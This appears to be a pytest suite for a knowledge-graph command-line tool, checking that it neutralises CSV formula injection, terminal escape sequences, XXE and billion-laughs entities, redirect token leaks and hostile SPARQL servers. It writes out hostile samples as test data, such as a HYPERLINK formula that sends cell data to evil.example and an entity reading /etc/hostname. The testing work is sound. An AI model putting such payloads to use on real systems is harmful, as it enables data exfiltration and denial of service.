"""Hostile input and hostile servers (issue 16): each case names the promise it checks.

Servers started here listen on 127.0.0.1 only, serve a bounded number of requests and are shut
down at the end of their test."""

from __future__ import annotations

import csv
import http.server
import io
import json
import threading
from contextlib import contextmanager
from pathlib import Path

import pytest

from kg.cli import main

GOOD = "Pyongyang fired a ballistic missile on Thursday, the Joint Chiefs of Staff said."


def kg(capsys, *args) -> tuple[int, str, str]:
    """Run the command line in this process: exit code, standard output, standard error."""
    capsys.readouterr()
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


# ---------------------------------------------------------------------------- a tiny local server
class _Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args) -> None:  # quiet
        pass

    def _handle(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        self.server.seen.append((self.command, self.path, dict(self.headers), body))
        self.server.behaviour(self, body)

    do_GET = do_POST = do_PUT = _handle


class _QuietServer(http.server.ThreadingHTTPServer):
    def handle_error(self, request, client_address) -> None:  # a client that went away: expected
        pass


@contextmanager
def local_server(behaviour):
    """An HTTP server on 127.0.0.1 (a free port) answering each request with ``behaviour(handler,
    body)``; yields it (``.url``, ``.seen``) and stops it on leaving."""
    server = _QuietServer(("127.0.0.1", 0), _Handler)
    server.daemon_threads = True
    server.behaviour = behaviour
    server.seen = []
    server.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def reply(status: int, body: bytes, content_type: str = "application/sparql-results+json", **headers):
    def behaviour(handler, _body):
        handler.send_response(status)
        handler.send_header("Content-Type", content_type)
        handler.send_header("Content-Length", str(len(body)))
        for k, v in headers.items():
            handler.send_header(k.replace("_", "-"), v)
        handler.end_headers()
        handler.wfile.write(body)
    return behaviour


# ---------------------------------------------------------------------------- output safety
HOSTILE_LABELS = [
    # (label in the graph, promise)
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "a formula cell is text to a spreadsheet"),
    ("-2+3", "a leading minus is no formula"),
    ("+1 555 0100", "a leading plus is no formula"),
    ("@SUM(A1:A9)", "a leading at-sign is no formula"),
    ("\t=1+1", "a leading tab is no formula"),
    ("\r=1+1", "a leading carriage return is no formula"),
    ("red \x1b[31malert\x1b[0m", "no ANSI colour sequence reaches the terminal"),
    ("title \x1b]0;owned\x07 set", "no OSC sequence (window title) reaches the terminal"),
    ("link \x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\", "no OSC 8 hyperlink reaches the terminal"),
    ("c1 \x9b31m csi", "no 8-bit CSI reaches the terminal"),
    ("bidi \u202eevil\u202c", "no bidi override reorders what is seen"),
]


@pytest.fixture()
def hostile_graph(tmp_path) -> Path:
    path = tmp_path / "hostile.nq"
    with path.open("w", encoding="utf-8") as handle:
        for i, (label, _) in enumerate(HOSTILE_LABELS):
            handle.write(f'<http://example.org/x{i:02d}> <http://www.w3.org/2000/01/rdf-schema#label> '
                         f'{json.dumps(label)} .\n')  # the default graph: what kg query sees
    return path


QUERY = "SELECT ?x ?l WHERE { ?x rdfs:label ?l } ORDER BY ?x"


def _is_control(ch: str) -> bool:
    return (ord(ch) < 0x20 and ch not in "\n") or 0x7f <= ord(ch) <= 0x9f or ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def test_csv_cells_are_neutralised_for_spreadsheets(capsys, hostile_graph):
    code, out, err = kg(capsys, "query", hostile_graph, QUERY, "--format", "csv")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["x", "l"]
    cells = [r[1] for r in rows[1:]]
    assert len(cells) == len(HOSTILE_LABELS)
    for cell, (label, promise) in zip(cells, HOSTILE_LABELS):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), promise
        if label.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell == "'" + label, promise  # OWASP: a leading single quote, the text kept
        # control characters other than tab / CR / LF (which CSV quotes) never reach the terminal
        assert not any(_is_control(ch) and ch not in "\t\r" for ch in cell), (promise, cell)


def test_table_output_shows_control_characters_escaped(capsys, hostile_graph):
    code, out, err = kg(capsys, "query", hostile_graph, QUERY)
    assert code == 0, err
    assert not any(_is_control(ch) for ch in out), [ch for ch in out if _is_control(ch)]
    assert "\\x1b[31malert" in out and "\\x1b]0;owned\\x07" in out and "\\x9b31m" in out and "\\u202e" in out


def test_json_output_carries_the_same_values_without_raw_controls(capsys, hostile_graph):
    code, out, err = kg(capsys, "query", hostile_graph, QUERY, "--format", "json")
    assert code == 0, err
    assert not any(_is_control(ch) for ch in out)
    values = [b["l"]["value"] for b in json.loads(out)["results"]["bindings"]]
    assert values == [label for label, _ in HOSTILE_LABELS]  # JSON escapes: the data is unchanged


def test_error_lines_show_control_characters_escaped(capsys, tmp_path):
    name = tmp_path / "evil\x1b]0;owned\x07.txt"
    code, out, err = kg(capsys, "build", name, "-o", tmp_path / "g.nq")
    assert code == 2
    assert "\x1b" not in err and "\\x1b]0;owned\\x07" in err


# ---------------------------------------------------------------------------- SERVICE
SERVICE_QUERIES = [
    ("SELECT * WHERE {{ SERVICE <{url}/sparql> {{ ?s ?p ?o }} }}", "SERVICE to an IRI"),
    ("SELECT * WHERE {{ SERVICE SILENT <{url}/sparql> {{ ?s ?p ?o }} }}", "SERVICE SILENT"),
    ("PREFIX e: <{url}/> SELECT * WHERE {{ SERVICE e:sparql {{ ?s ?p ?o }} }}", "SERVICE to a prefixed name"),
    ("SELECT * WHERE {{ ?x rdfs:label ?l FILTER(?x<?l) . SERVICE<{url}/sparql>{{ ?s ?p ?o }} }}", "SERVICE without spaces"),
]


@pytest.mark.parametrize("template,promise", SERVICE_QUERIES, ids=[p for _, p in SERVICE_QUERIES])
def test_service_over_a_local_source_is_refused(capsys, hostile_graph, template, promise):
    empty = b'{"head":{"vars":["s","p","o"]},"results":{"bindings":[]}}'
    with local_server(reply(200, empty)) as server:
        code, out, err = kg(capsys, "query", hostile_graph, template.format(url=server.url))
        assert code == 2, promise
        assert len(err.strip().splitlines()) == 1 and "--allow-service" in err, err
        assert server.seen == [], promise  # no request left the machine


def test_service_runs_with_allow_service(capsys, hostile_graph):
    empty = b'{"head":{"vars":["s","p","o"]},"results":{"bindings":[]}}'
    with local_server(reply(200, empty)) as server:
        code, out, err = kg(capsys, "query", hostile_graph,
                            f"SELECT * WHERE {{ SERVICE <{server.url}/sparql> {{ ?s ?p ?o }} }}",
                            "--allow-service", "--format", "csv")
        assert code == 0, err
        assert len(server.seen) == 1


@pytest.mark.parametrize("text", [
    'SELECT ?service WHERE { ?service rdfs:label "SERVICE <http://x/>" } # SERVICE <http://y/>',
    "SELECT * WHERE { ?s <http://example.org/SERVICE> ?o }",
    "PREFIX ex: <http://example.org/> SELECT * WHERE { ?s ex:service ?o }",
])
def test_the_word_service_elsewhere_is_no_service(capsys, hostile_graph, text):
    code, out, err = kg(capsys, "query", hostile_graph, text, "--format", "csv")
    assert code == 0, err


# ---------------------------------------------------------------------------- hostile input
SURROGATE_RECORDS = [
    # (JSON Lines record as written, the field named, promise)
    ('{"id": "s-text", "text": "Seoul said \\ud800 on Friday."}', "'text'", "a lone surrogate in the text loses only its record"),
    ('{"id": "s-id\\udfff", "text": "Tokyo said hello on Friday."}', "'id'", "a lone surrogate in the id loses only its record"),
    ('{"id": "s-title", "title": "\\ud83d", "text": "Tokyo said hello on Friday again."}', "'title'",
     "a lone surrogate in the title loses only its record"),
    ('{"id": "s-nested", "extra": {"x": ["\\udc00"]}, "text": "Tokyo said hello on Friday once more."}', "'extra.x[0]'",
     "a lone surrogate anywhere in the record is refused, never written"),
]
GOOD_RECORDS = [json.dumps({"id": "good-1", "text": GOOD, "published": "2024-10-31"}),
                json.dumps({"id": "good-2", "text": "Seoul condemned the launch on Friday.", "published": "2024-11-01"}),
                json.dumps({"id": "pair", "text": "Tokyo said hello \U0001F600 on Friday."})]  # a real pair is fine


@pytest.fixture()
def surrogate_jsonl(tmp_path) -> Path:
    path = tmp_path / "s.jsonl"
    lines = [GOOD_RECORDS[0]] + [r for r, _, _ in SURROGATE_RECORDS] + GOOD_RECORDS[1:]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _documents(capsys, source) -> list[str]:
    code, out, err = kg(capsys, "query", source, "SELECT ?id WHERE { ?d a gev:Document ; dcterms:identifier ?id } ORDER BY ?id",
                        "--format", "csv")
    assert code == 0, err
    return out.split()[1:]


def test_lone_surrogates_lose_only_their_record_in_build(capsys, tmp_path, surrogate_jsonl):
    out = tmp_path / "g.nq"
    code, _, err = kg(capsys, "build", surrogate_jsonl, "-o", out)
    assert code == 2
    lines = err.strip().splitlines()
    assert len(lines) == len(SURROGATE_RECORDS), lines
    for lineno, (line, (_, field, promise)) in enumerate(zip(lines, SURROGATE_RECORDS), start=2):
        assert line.startswith(f"kg: {surrogate_jsonl}:{lineno}: field {field} holds a lone surrogate"), (promise, line)
    assert _documents(capsys, out) == ["good-1", "good-2", "pair"]


def test_lone_surrogates_lose_only_their_record_in_add(capsys, tmp_path, surrogate_jsonl):
    store = tmp_path / "store"
    code, _, err = kg(capsys, "add", store, surrogate_jsonl)
    assert code == 2 and len(err.strip().splitlines()) == len(SURROGATE_RECORDS), err
    assert _documents(capsys, store) == ["good-1", "good-2", "pair"]


# ---------------------------------------------------------------------------- bounded work
LIMIT_CASES = [
    # (file name, text, options, expected line ending, promise)
    ("token.txt", "Seoul said " + "x" * (5 * 1024 * 1024) + " today.", [],
     "a run of over 10000 characters without white space at character 11, over the limit (--max-token)",
     "a 5 MB token is refused by the default token limit before any regex or parse"),
    ("token21.txt", GOOD + " " + "y" * 21, ["--max-token", "20"],
     f"a run of over 20 characters without white space at character {len(GOOD) + 1}, over the limit (--max-token)",
     "the token limit is the option's"),
    ("sentences.txt", "Seoul said no. " * 60, ["--max-sentences", "50"],
     "about 61 sentences, over the limit of 50 (--max-sentences)", "the sentence count is bounded before parsing"),
    ("entities.txt", "Japan, China, Russia, France and Germany met Kenya and Peru on Monday.", ["--max-entities", "5"],
     "7 entity mentions, over the limit of 5 (--max-entities)", "the entity count is bounded before resolution"),
    ("bytes.txt", GOOD * 3, ["--max-bytes", "150"],
     f"file is {len(GOOD) * 3} bytes, over the limit of 150 (--max-bytes)", "the size limit is the option's"),
]


@pytest.mark.parametrize("name,text,options,expected,promise", LIMIT_CASES, ids=[c[0] for c in LIMIT_CASES])
def test_limits_refuse_one_document_with_one_line(capsys, tmp_path, name, text, options, expected, promise):
    (tmp_path / name).write_text(text, encoding="utf-8")
    (tmp_path / "good.txt").write_text(GOOD + " " + "z" * 20, encoding="utf-8")
    out = tmp_path / "g.nq"
    code, stdout, err = kg(capsys, "build", tmp_path / name, tmp_path / "good.txt", "-o", out, *options)
    assert code == 2, promise
    assert err.strip().splitlines() == [f"kg: {tmp_path / name}: {expected}"], promise
    assert "documents: 1" in stdout, promise  # the other document is built


def test_limits_are_those_of_kg_add_too(capsys, tmp_path):
    (tmp_path / "s.txt").write_text("Seoul said no. " * 60, encoding="utf-8")
    code, _, err = kg(capsys, "add", tmp_path / "store", tmp_path / "s.txt", "--max-sentences", "50")
    assert code == 2 and err.strip().endswith("over the limit of 50 (--max-sentences)"), err


LONG_TOKENS = [
    # (token, promise): each ran for minutes to hours in kg/ingest/junk.py's regexes
    ("a" * 1_000_000, "a run of word characters (the e-mail pattern was quadratic)"),
    ("1" * 1_000_000, "a run of digits (the money/percent and e-mail patterns were quadratic)"),
    ("1%" * 500_000, "percent signs (the money/percent pattern was quadratic)"),
    ("$1" * 500_000, "amounts of money (the money/percent pattern was quadratic)"),
    ("a@" + "b" * 1_000_000, "an at-sign then a run (the e-mail pattern's domain)"),
]


@pytest.mark.parametrize("token,promise", LONG_TOKENS, ids=[p.split(" (")[0] for _, p in LONG_TOKENS])
def test_junk_rules_finish_on_a_long_token(token, promise):
    """Linear, not quadratic: each finishes in seconds; the alarm is a hang guard, not a timing."""
    import signal

    from kg.ingest.junk import find_junk

    def hang(*_):
        raise TimeoutError(f"find_junk did not finish in 120 s on {promise}")

    old = signal.signal(signal.SIGALRM, hang)
    signal.alarm(120)
    try:
        spans, author = find_junk("Seoul said.\n" + token + "\nTokyo said.")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)
    assert author is None and all(s.kind in ("ad", "bio") for s in spans), promise


# ---------------------------------------------------------------------------- RDF sources
RDF_XML = ('<?xml version="1.0"?>\n{doctype}<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
           'xmlns:ex="http://example.org/">\n <rdf:Description rdf:about="http://example.org/x">'
           '<ex:p>{value}</ex:p></rdf:Description>\n</rdf:RDF>\n')
LAUGHS = "".join(f' <!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10 if i else "lol" * 10}">\n' for i in range(10))
RDF_XML_CASES = [
    # (doctype, value, refused?, promise)
    (f"<!DOCTYPE rdf:RDF [\n{LAUGHS}]>\n", "&l9;", True, "nested entities (a billion laughs, 1 KB) are never expanded"),
    ('<!DOCTYPE rdf:RDF [\n <!ENTITY secret SYSTEM "file:///etc/hostname">\n]>\n', "&secret;", True,
     "an external entity never reads a local file"),
    ('<!DOCTYPE rdf:RDF [\n <!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;\n]>\n', "x", True,
     "a parameter entity never fetches a DTD"),
    ("", "&lt;!ENTITY is text here&gt;", False, "an escaped '<!ENTITY' in a literal is only text"),
    ('<!DOCTYPE rdf:RDF>\n', "plain", False, "a DOCTYPE without entities is read"),
]


@pytest.mark.parametrize("doctype,value,refused,promise", RDF_XML_CASES, ids=[c[3].split(" (")[0] for c in RDF_XML_CASES])
def test_rdf_xml_sources_are_read_without_entity_expansion(capsys, tmp_path, doctype, value, refused, promise):
    path = tmp_path / "source.rdf"
    path.write_text(RDF_XML.format(doctype=doctype, value=value), encoding="utf-8")
    assert len(path.read_bytes()) < 1500
    code, out, err = kg(capsys, "query", path, "SELECT ?o WHERE { ?s ?p ?o }", "--format", "csv")
    if refused:
        assert code == 2, promise
        assert err.strip().splitlines() == [f"kg: {path}: RDF/XML with a DOCTYPE that declares entities (<!ENTITY); "
                                            "refused, as entity expansion can exhaust memory or read other files"]
    else:
        assert code == 0, (promise, err)
        assert len(out.splitlines()) == 2, promise


# ---------------------------------------------------------------------------- hostile servers
RESULTS = b'{"head":{"vars":["n"]},"results":{"bindings":[{"n":{"type":"literal","value":"7"}}]}}'


def trickle(interval: float, count: int):
    """Headers, then one byte every ``interval`` seconds, at most ``count`` bytes."""
    def behaviour(handler, _body):
        import time

        handler.send_response(200)
        handler.send_header("Content-Type", "application/sparql-results+json")
        handler.end_headers()
        handler.wfile.flush()
        for _ in range(count):
            time.sleep(interval)
            handler.wfile.write(b" ")
            handler.wfile.flush()
    return behaviour


def endless(limit: int):
    """A body without Content-Length that goes on (up to ``limit`` bytes)."""
    def behaviour(handler, _body):
        handler.send_response(200)
        handler.send_header("Content-Type", "application/sparql-results+json")
        handler.send_header("Connection", "close")
        handler.end_headers()
        block = b"[" * 65536
        for _ in range(limit // len(block)):
            handler.wfile.write(block)
    return behaviour


def late(seconds: float):
    def behaviour(handler, body):
        import time

        time.sleep(seconds)
        reply(200, RESULTS)(handler, body)
    return behaviour


# (behaviour, environment, expected in the one error line, requests the server may see, promise)
SERVER_CASES = [
    (reply(200, b"<!DOCTYPE html><html><body>Welcome to nginx</body></html>", "text/html"), {},
     "an HTML page instead of SPARQL results", 1, "an HTML page is the server's problem, not a SPARQL syntax error"),
    (reply(200, b""), {}, "empty reply instead of SPARQL results", 1,
     "an empty reply is the server's problem, not a SPARQL syntax error"),
    (reply(200, b'{"head": {"vars": ["n"]}, "results": {"bindings": [{"n": '), {},
     "malformed SPARQL JSON results from the endpoint", 1, "malformed JSON exits 2 naming the endpoint"),
    (reply(200, b'{"head":{"vars":["n"]},"results":{"bindings":[{"n":{"type":"zzz","value":"1"}}]}}'), {},
     "malformed SPARQL JSON results from the endpoint", 1, "results malformed deep inside exit 2 naming the endpoint"),
    (reply(500, b"boom", "text/plain"), {"KG_SPARQL_DEADLINE": "20"}, "server error, HTTP 500: boom", 2,
     "a query is sent again once at most after a server error"),
    (late(3), {"KG_SPARQL_READ_TIMEOUT": "1"}, "no reply within 1 s", 1,
     "a slow reply times out and the query is not sent again"),
    (trickle(0.2, 150), {"KG_SPARQL_DEADLINE": "2", "KG_SPARQL_READ_TIMEOUT": "5"},
     "reply not complete within 2 s (KG_SPARQL_DEADLINE)", 1, "a reply trickling a byte at a time ends at the deadline"),
    (trickle(3, 10), {"KG_SPARQL_READ_TIMEOUT": "1"}, "reply stalled: no data for 1 s", 1,
     "a reply that stops sending ends at the read timeout"),
    (endless(64 << 20), {"KG_SPARQL_MAX_BYTES": str(1 << 20)}, f"reply over {1 << 20} bytes; refused", 1,
     "a reply that never ends is cut at the size cap"),
]


@pytest.mark.parametrize("behaviour,env,expected,requests,promise", SERVER_CASES, ids=[c[4] for c in SERVER_CASES])
def test_hostile_servers_end_in_one_line(capsys, monkeypatch, behaviour, env, expected, requests, promise):
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    with local_server(behaviour) as server:
        code, out, err = kg(capsys, "query", server.url + "/query", "SELECT ?n WHERE { ?s ?p ?n }")
        assert code == 2, (promise, out, err)
        lines = err.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith(f"kg: {server.url}/query: ") and expected in lines[0], (promise, lines)
        assert "syntax error" not in err, promise
        assert len(server.seen) == requests, promise


def test_a_good_endpoint_still_answers(capsys):
    with local_server(reply(200, RESULTS)) as server:
        code, out, err = kg(capsys, "query", server.url, "SELECT ?n WHERE { ?s ?p ?n }", "--format", "csv")
    assert (code, out, err) == (0, "n\n7\n", "")


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_redirects_are_not_followed_with_credentials(capsys, monkeypatch, status):
    monkeypatch.setenv("KG_SPARQL_TOKEN", "s3cret")
    with local_server(reply(200, RESULTS)) as other:
        target = other.url.replace("127.0.0.1", "localhost") + "/steal"
        with local_server(reply(status, b"", "text/plain", Location=target)) as server:
            code, out, err = kg(capsys, "query", server.url + "/query", "SELECT ?n WHERE { ?s ?p ?n }")
            assert code == 2 and out == ""
            assert err.strip() == (f"kg: {server.url}/query: HTTP {status} redirect to {target}; not followed "
                                   "(credentials and the request stay with the endpoint given): give the final URL")
            assert [(m, h.get("Authorization")) for m, _, h, _ in server.seen] == [("POST", "Bearer s3cret")]
        assert other.seen == []  # the other host got nothing: no token, no GET in place of the POST


def test_an_update_is_never_sent_twice(capsys, tmp_path, monkeypatch):
    from kg.remote import Endpoint

    with local_server(reply(500, b"boom", "text/plain")) as server:
        endpoint = Endpoint.from_url(server.url)
        with pytest.raises(Exception, match="server error, HTTP 500"):
            endpoint.update("INSERT DATA { <http://e/a> <http://e/b> 1 }")
        assert [m for m, *_ in server.seen] == ["POST"]


def test_an_unreachable_endpoint_is_one_line(capsys):
    import socket

    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    sock.close()  # nothing listens there: connection refused, nothing was sent
    code, out, err = kg(capsys, "query", f"http://127.0.0.1:{port}/query", "SELECT * WHERE { ?s ?p ?o }")
    assert code == 2 and err.startswith(f"kg: http://127.0.0.1:{port}/query: endpoint unreachable ("), err


DEEP_JSON_LINES = [
    # (line, promise)
    ("[" * 100_000 + "]" * 100_000, "an array nested 100,000 deep is reported, not a RecursionError"),
    ('{"id": "x", "extra": ' + '{"a": ' * 50_000 + "1" + "}" * 50_000 + ', "text": "Tokyo said hi."}',
     "an object nested 50,000 deep in an unused field is reported"),
]


def test_deeply_nested_json_lines_lose_only_their_record(capsys, tmp_path):
    path = tmp_path / "deep.jsonl"
    path.write_text("\n".join([GOOD_RECORDS[0]] + [line for line, _ in DEEP_JSON_LINES]) + "\n", encoding="utf-8")
    code, out, err = kg(capsys, "build", path, "-o", tmp_path / "g.nq")
    assert code == 2 and "documents: 1" in out
    assert err.strip().splitlines() == [f"kg: {path}:{i}: malformed JSON (nested too deeply)"
                                        for i in range(2, 2 + len(DEEP_JSON_LINES))], [p for _, p in DEEP_JSON_LINES]
